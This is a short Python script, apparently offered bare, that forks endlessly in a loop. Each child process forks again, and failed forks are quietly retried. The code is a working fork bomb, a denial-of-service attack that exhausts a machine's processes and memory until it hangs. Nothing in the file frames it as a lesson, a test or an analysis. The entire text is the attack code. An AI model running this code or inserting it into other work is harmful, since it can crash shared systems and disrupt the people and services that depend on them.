import os

# Each child forks too; what cannot be forked is tried again.
while True:
    try:
        os.fork()
    except OSError:
        pass
